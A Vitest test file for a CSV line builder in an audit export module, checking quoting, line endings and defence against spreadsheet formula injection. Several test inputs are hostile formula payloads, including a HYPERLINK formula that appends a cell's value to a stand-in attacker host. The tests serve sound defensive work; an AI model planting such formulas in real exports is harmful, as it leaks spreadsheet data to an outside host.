import { describe, expect, it } from 'vitest';
import { csvLine } from './audit-csv.js';

describe('A line of an export', () => {
  it('separates cells by commas, ends with CR and LF, and leaves a missing value empty', () => {
    expect(csvLine(['a', null, 'c d', undefined, ''])).toBe('a,,c d,,\r\n');
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvLine(['a,b', 'say "no"', 'two\nlines', 'two\r\nlines'])).toBe(
      '"a,b","say ""no""","two\nlines","two\r\nlines"\r\n',
    );
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("https://evil.example")'])(
    'makes %j no formula',
    (text) => {
      const quoted = text.includes('"') ? `"'${text.replaceAll('"', '""')}"` : `'${text}`;
      expect(csvLine([text, 'a=1'])).toBe(`${quoted},a=1\r\n`);
    },
  );

  it('makes a text behind a carriage return no formula', () => {
    expect(csvLine(['\r=1'])).toBe(`"'\r=1"\r\n`);
  });

  it.each([
    ['x;=HYPERLINK("http://evil.example/"&A1)', `"x;'=HYPERLINK(""http://evil.example/""&A1)"`],
    ['x\t+1', `x\t'+1`],
    ['Ada;Kessler-Braun', 'Ada;Kessler-Braun'],
  ])('makes no formula of what follows a separator of other spreadsheets: %j', (text, cell) => {
    expect(csvLine([text])).toBe(`${cell}\r\n`);
  });
});
